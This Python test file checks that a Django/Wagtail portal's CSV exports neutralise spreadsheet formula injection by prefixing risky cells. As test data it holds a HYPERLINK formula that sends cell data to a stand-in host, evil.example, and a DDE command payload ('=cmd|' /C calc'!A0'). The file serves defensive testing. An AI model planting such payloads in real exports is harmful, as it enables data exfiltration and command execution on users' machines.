"""CSV formula injection (issue 11, finding 9): every CSV export neutralises cells a spreadsheet would
run as a formula, through `core.spreadsheet`."""

import csv
import io

import pytest

from cyberportal.core.spreadsheet import SafeDictWriter, SafeWriter, safe_cell
from cyberportal.directory.tests.helpers import client_for, make_authority, make_contact
from cyberportal.laws.tests.helpers import make_budapest, make_law, make_mapping, make_provision
from cyberportal.testing import make_state

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_prefixes_every_formula_start(start):
    assert safe_cell(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("value", ["Ana", "", " =1", "'=1", 42, -3, None])
def test_safe_cell_keeps_ordinary_values(value):
    assert safe_cell(value) == value


def test_writers_neutralise_rows():
    out = io.StringIO()
    SafeWriter(out).writerows([["=1", "+54 11 5555 0100", 7]])
    writer = SafeDictWriter(out, fieldnames=["a"], bom=False)  # a second writer on the same file
    writer.writerows([{"a": "@SUM(A1)"}])
    assert out.getvalue().startswith("\ufeff") and out.getvalue().count("\ufeff") == 1
    rows = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))
    assert rows == [["'=1", "'+54 11 5555 0100", "7"], ["'@SUM(A1)"]]


def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf") and response.content.count(b"\xef\xbb\xbf") == 1
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]


def _assert_neutralised(cells: list[str]) -> None:
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.django_db
def test_directory_export_neutralises_a_contact_named_as_a_formula():
    authority = make_authority(make_state("CO"), name="@Fiscalía")
    make_contact(authority, FORMULA, phones=[("office", "+57 601 555 0100")])
    cells = _cells(client_for(None).get("/en/directory/export.csv"))
    assert "'" + FORMULA in cells and "'@Fiscalía" in cells
    assert "'+57 601 5550100" in cells or any(c.startswith("'+57") for c in cells)
    _assert_neutralised(cells)


@pytest.mark.django_db
def test_law_and_matrix_exports_neutralise_a_law_named_as_a_formula(client):
    make_budapest()
    law = make_law(make_state("CO"), "1273", identifier=FORMULA, title="-" + FORMULA)
    provision = make_provision(law, "+1", "=cmd|' /C calc'!A0", heading="@heading")
    make_mapping(provision, "2")

    law_cells = _cells(client.get(f"/en/laws/{law.pk}/export.csv"))
    assert "'=cmd|' /C calc'!A0" in law_cells and "'+1" in law_cells and "'@heading" in law_cells
    _assert_neutralised(law_cells)

    matrix_cells = _cells(client.get("/en/laws/matrix/?instrument=cets-185&format=csv"))
    assert any(cell.startswith("'" + FORMULA) for cell in matrix_cells)
    _assert_neutralised(matrix_cells)


def test_neutralise_csv_keeps_quoted_newlines_and_is_idempotent():
    from cyberportal.core.spreadsheet import neutralise_csv

    text = 'name,note\r\n=1+1,"two\r\nlines"\r\n@x,+54 11\r\n'
    once = "".join(neutralise_csv([text[:7], text[7:20], text[20:]]))  # pieces cut mid-row
    assert list(csv.reader(io.StringIO(once, newline=""))) == [
        ["name", "note"],
        ["'=1+1", "two\r\nlines"],
        ["'@x", "'+54 11"],
    ]
    assert "".join(neutralise_csv([once])) == once


@pytest.mark.django_db
def test_wagtails_own_csv_exports_are_neutralised_too(client):
    """The site history report's CSV is Wagtail's view, not ours: the middleware covers it."""
    from wagtail.log_actions import log

    from cyberportal.testing import make_user

    contact = make_contact(make_authority(make_state("CO")), FORMULA)
    log(contact, "wagtail.edit")
    admin = make_user("secretariat")
    admin.is_superuser = True
    admin.save()
    client.force_login(admin)

    response = client.get("/admin/reports/site-history/?export=csv")

    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8 (the middleware adds the BOM)
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert any(cell.startswith("'" + FORMULA) for cell in cells)  # its label is "name – authority"
    _assert_neutralised(cells)


def test_csv_responses_written_elsewhere_get_one_bom(rf):
    """Excel reads UTF-8 only behind a byte order mark; the middleware adds it once, never twice."""
    from django.http import HttpResponse, StreamingHttpResponse

    from cyberportal.core.spreadsheet import CsvFormulaMiddleware

    def answer(content):
        return CsvFormulaMiddleware(lambda request: content)(rf.get("/"))

    plain = answer(HttpResponse("name\r\nColômbia\r\n", content_type="text/csv; charset=utf-8"))
    assert plain.content == "\ufeffname\r\nColômbia\r\n".encode()
    again = answer(HttpResponse(plain.content, content_type="text/csv; charset=utf-8"))
    assert again.content == plain.content
    streamed = answer(StreamingHttpResponse(iter(["na", "me\r\nx\r\n"]), content_type="text/csv"))
    assert b"".join(streamed.streaming_content) == "\ufeffname\r\nx\r\n".encode()
